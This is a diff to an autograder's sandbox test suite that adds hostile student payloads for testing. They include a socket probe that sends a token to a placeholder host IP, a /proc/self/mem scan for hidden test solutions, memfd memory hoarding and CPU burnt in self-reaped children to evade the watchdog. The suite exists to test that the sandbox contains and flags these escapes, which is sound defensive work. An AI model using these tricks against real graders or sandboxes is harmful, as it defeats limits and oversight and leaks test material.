@@ -12,9 +12,11 @@ reads that run:
 - no output file (grades.csv, results.json, feedback.html, summary.html, the gradebook) holds a
   hidden check's source, a line of a reference solution, the Fashion-MNIST test labels, the
   grader's environment, or anything one worker wrote for another to find;
+- a unit whose cell reaches outside plain code is flagged for review, whatever it scores;
 - no worker process outlives the run, writes to the output or the submissions, or reaches the
   grader's machine over the network;
-- one student's worker cannot stop the grading of the class, nor hold memory past the limit.
+- one student's worker cannot stop the grading of the class, nor use memory or CPU past its limits
+  by hiding them from the watchdog.
 
 The level is `AUTOGRADER_PAYLOAD_LEVEL` (auto, namespaces, uid or none; default auto), so the
 same suite can be run at every sandbox level. Payloads that would harm the machine at the "none"
@@ -36,7 +38,7 @@ from pathlib import Path
 import nbformat
 import pytest
 
-from autograder.grade import GradingError, Run, grade
+from autograder.grade import GradingError, Run, grade, protected_paths
 from autograder.sandbox import Limits, choose_level
 from conftest import reference_code, write_student
 
@@ -119,10 +121,11 @@ def softmax(x, dim=-1):
     return _f(x, dim=dim)
 '''), "pydoc.locate is an importer by name"),
     "s_written_module": ("a module written to /tmp from a string, then imported", _code('''
-import sys
-with open("/tmp/helper_mod.py", "w") as _out:
+import os, sys, tempfile
+_folder = tempfile.mkdtemp()
+with open(os.path.join(_folder, "helper_mod.py"), "w") as _out:
     _out.write("import torch\\ndef sm(x, dim):\\n    return torch.soft" + "max(x, dim)\\n")
-sys.path.insert(0, "/tmp")
+sys.path.insert(0, _folder)
 import helper_mod
 def softmax(x, dim=-1):
     return helper_mod.sm(x, dim)
@@ -467,12 +470,17 @@ def _scan():
     needles = [b"### BEGIN " + b"SOLUTION", b"BEGIN HIDDEN " + b"TESTS", b"mark." + b"hidden",
                b"\x00\x00\x08\x01\x00\x00\x27\x10"]  # the header of the test labels' IDX file
     hits = []
-    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
-        for line in maps:
-            parts = line.split()
-            if "r" not in parts[1]:
-                continue
-            start, end = (int(v, 16) for v in parts[0].split("-"))
+    regions, current = [], None
+    for line in open("/proc/self/smaps"):
+        parts = line.split()
+        if "-" in parts[0] and len(parts) >= 5:
+            current = parts
+        elif parts[0] == "Rss:" and current is not None and "r" in current[1]:
+            start, end = (int(v, 16) for v in current[0].split("-"))
+            if int(parts[1]) * 1024 >= (end - start) // 2:  # resident: reading it faults nothing in
+                regions.append((start, end))
+    with open("/proc/self/mem", "rb", 0) as mem:
+        for start, end in regions:
             position = start
             while position < end and len(hits) < 12:
                 size = min(end - position, 1 << 24)
@@ -636,17 +644,19 @@ def softmax(x, dim=-1):
 NETWORK = _code(r'''
 import socket
 _tried = []
-for _host in ("127.0.0.1", "@@HOSTIP@@"):
+for _host in (b"127.0.0.1", b"@@HOSTIP@@"):
     try:
-        _s = socket.create_connection((_host, @@PORT@@), timeout=2)
+        _s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        _s.settimeout(2)
+        _s.connect((_host, @@PORT@@))
         _s.sendall(b"@@TOKEN@@")
         _tried.append(f"{_host}: connected")
-    except OSError as e:
+    except Exception as e:
         _tried.append(f"{_host}: {e}")
 try:
     _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    _u.sendto(b"@@TOKEN@@", ("@@HOSTIP@@", @@PORT@@))
-except OSError as e:
+    _u.sendto(b"@@TOKEN@@", (b"@@HOSTIP@@", @@PORT@@))
+except Exception as e:
     _tried.append(f"udp: {e}")
 def softmax(x, dim=-1):
     raise NotImplementedError(repr(_tried))
@@ -678,7 +688,7 @@ FORGE_SANDBOX_ERROR = forged_frame('{"$type": "Loaded", "errors": {}, "setup_err
 MEMFD_HOARD = _code(r'''
 import os, time
 _hoard = []
-for _i in range(32):  # 32 x 63 MiB in memory files: resident, yet in no process's RSS
+for _i in range(40):  # 40 x 63 MiB in memory files: resident, yet in no process's RSS
     _fd = os.memfd_create("hoard")
     _chunk = b"\1" * (1 << 20)
     for _j in range(63):
@@ -686,6 +696,34 @@ for _i in range(32):  # 32 x 63 MiB in memory files: resident, yet in no process
     _hoard.append(_fd)
 time.sleep(2)  # twenty looks of the watchdog
 ''')
+
+BURN_UNSEEN = _code(r"""
+import os, signal, time
+signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # the kernel reaps the children: their CPU time is added nowhere
+def _burn_in_children(rounds):
+    for _ in range(rounds):  # one small shell after another, each busy for about half a second of CPU
+        pid = os.posix_spawn("/bin/sh", ["sh", "-c", "i=0; while [ $i -lt 300000 ]; do i=$((i+1)); done"], {})
+        while os.path.exists(f"/proc/{pid}"):
+            time.sleep(0.02)
+_done = []
+""")
+BURN_SEEN = _code(r"""
+import time
+def _burn_in_children(rounds):  # the same work, in this process
+    end = time.process_time() + 0.5 * rounds
+    while time.process_time() < end:
+        pass
+_done = []
+""")
+BURN_CALL = _code("""
+def softmax(x, dim=-1):
+    if not _done:
+        _done.append(1)
+        _burn_in_children(40)
+    e = torch.exp(x - x.amax(dim=dim, keepdim=True))
+    return e / e.sum(dim=dim, keepdim=True)
+""")
+
 
 SOFTMAX_OK = _code('''
 def softmax(x, dim=-1):
@@ -887,6 +925,16 @@ class one_layer_net(nn.Module):
     return found
 
 
+# The payloads that reach outside plain code (code from strings, computed attribute names, frames,
+# gc, sys.modules, ctypes, monkeypatching what the cell did not create): whatever they gain, the
+# contract says the row's status must ask a TA to look.
+ESCAPING = {
+    "s_builtins_exec", "s_pickle", "s_pydoc", "s_written_module", "s_formatter", "s_os_sys_modules",
+    "s_dispatcher_patch", "s_gc_patch", "s_frames", "s_launder_patch_torch", *SOFTMAX_FLAGGED,
+    "l_getattr_concat", "l_dunder_dict", "o_patch_module", "x_environment", "x_memory_scan", "x_persist", "x_vandal",
+}
+
+
 # ---- grading -----------------------------------------------------------------------------------
 
 @dataclass
@@ -952,9 +1000,11 @@ def data_env_module(datasets):
 
 @pytest.fixture(scope="module")
 def level(data_env_module, request):
+    """The level this module grades at; each run chooses it again with its own protected paths,
+    as the command line does (at "uid" without Landlock that is what makes them unreadable)."""
     chosen = choose_level(LEVEL)
     if chosen.name == "uid":
-        request.getfixturevalue("modes_restored")  # the uid level opens folders to other users
+        request.getfixturevalue("modes_restored")  # the uid level changes the modes of folders
     return chosen
 
 
@@ -967,8 +1017,10 @@ def _grade_class(course, root: Path, payloads: dict[str, Payload], level, limits
     for sid, p in payloads.items():
         write_student(classes, sid, labs=p.labs, tree="release",
                       code={u: _substitute(c() if callable(c) else c, values) for u, c in p.code.items()})
+    chosen = choose_level(LEVEL, protected_paths(course, [classes], out))
+    assert chosen.name == level.name, f"the level changed from {level.name} to {chosen.name}"
     started = time.monotonic()
-    results = grade(course, [classes], out, Run(level=level, limits=limits, device="cpu", jobs=2))
+    results = grade(course, [classes], out, Run(level=chosen, limits=limits, device="cpu", jobs=2))
     return results, classes, out, time.monotonic() - started
 
 
@@ -1130,6 +1182,17 @@ def _score(graded: Graded, sid: str) -> dict[str, float]:
     return {u: graded.results[sid].units[u] for u in graded.payloads[sid].allowed}
 
 
+@pytest.mark.parametrize("sid", sorted(ESCAPING))
+def test_escape_is_flagged(graded, sid):
+    """A unit whose cell reaches outside plain code is flagged for review, whatever it scores."""
+    if sid not in graded.payloads:
+        pytest.skip(f"left out at the {graded.level} level")
+    r = graded.results[sid]
+    assert "review:" in r.status, (f"UNFLAGGED ESCAPE: {sid} ({graded.payloads[sid].what}) is not flagged"
+                                   + (f" [{graded.payloads[sid].hole}]" if graded.payloads[sid].hole else "")
+                                   + f"\n{_verdict(graded, sid)}")
+
+
 def test_control_student_is_graded_in_full(graded):
     """The payloads around it cost the honest student nothing."""
     r = graded.results["ctl_honest"]
@@ -1192,14 +1255,25 @@ def test_forged_grader_fault_does_not_stop_the_class(course, level, tmp_path_fac
     assert by["b_forger"].total == 0
 
 
-def test_memory_outside_the_rss_counts(course, level, tmp_path_factory):
-    """2 GiB held in memory files (memfd) by a worker limited to 1.5 GiB: it must be stopped like a
-    worker holding the same in a tensor, or the class's host can be run out of memory."""
-    root = tmp_path_factory.mktemp("memory")
-    payloads = {"m_memfd": Payload(["lab02"], {"softmax": MEMFD_HOARD + SOFTMAX_OK}, {}, "memfd hoard")}
-    results, _, _, _ = _grade_class(course, root, payloads, level,
-                                    Limits(min_wall_seconds=30, memory_bytes=3 * 2**29), {})
-    r = results[0]
-    assert r.total == 0 and "memory" in r.status, (
-        f"HOLE: a worker held 2 GiB of memfd memory past a 1.5 GiB limit and was not stopped: "
-        f"score {r.total}, status {r.status!r}")
+def test_memory_and_cpu_outside_the_watchdog_count(course, level, tmp_path_factory):
+    """Limits hold however the work is hidden: 2.5 GiB held in memory files (memfd) by a worker limited
+    to 2 GiB, and about 20 s of CPU burnt in children the kernel reaps itself (SIGCHLD ignored)
+    by a check allowed at most 8 s, must stop those workers as the same use in plain sight does."""
+    root = tmp_path_factory.mktemp("limits")
+    payloads = {
+        "m_memfd": Payload(["lab02"], {"softmax": MEMFD_HOARD + SOFTMAX_OK}, {}, "memfd hoard"),
+        "m_tensor": Payload(["lab02"], {"softmax": "_hoard = torch.ones(5 << 29, dtype=torch.uint8)\n" + SOFTMAX_OK},
+                            {}, "the same in a tensor (control)"),
+        "p_burn_unseen": Payload(["lab02"], {"softmax": BURN_UNSEEN + BURN_CALL}, {}, "CPU in self-reaped children"),
+        "p_burn_seen": Payload(["lab02"], {"softmax": BURN_SEEN + BURN_CALL}, {}, "the same CPU in the worker (control)"),
+    }
+    limits = Limits(min_wall_seconds=150, memory_bytes=2 * 2**30, min_cpu_seconds=5, default_cpu_seconds=8)
+    results, _, out, _ = _grade_class(course, root, payloads, level, limits, {})
+    by = {r.student: r for r in results}
+    book = sqlite3.connect(out / "gradebook.sqlite")
+    cpu = dict(book.execute("SELECT student, MAX(cpu_seconds) FROM checks GROUP BY student"))
+    book.close()
+    report = {sid: (r.total, r.status, cpu.get(sid)) for sid, r in by.items()}
+    assert by["m_tensor"].total == 0 and by["p_burn_seen"].total < 15, f"the controls were not stopped: {report}"
+    holes = [sid for sid in ("m_memfd", "p_burn_unseen") if by[sid].total == 15]
+    assert not holes, f"HOLE: {holes} used past their limits and were not stopped (score, status, CPU seen): {report}"
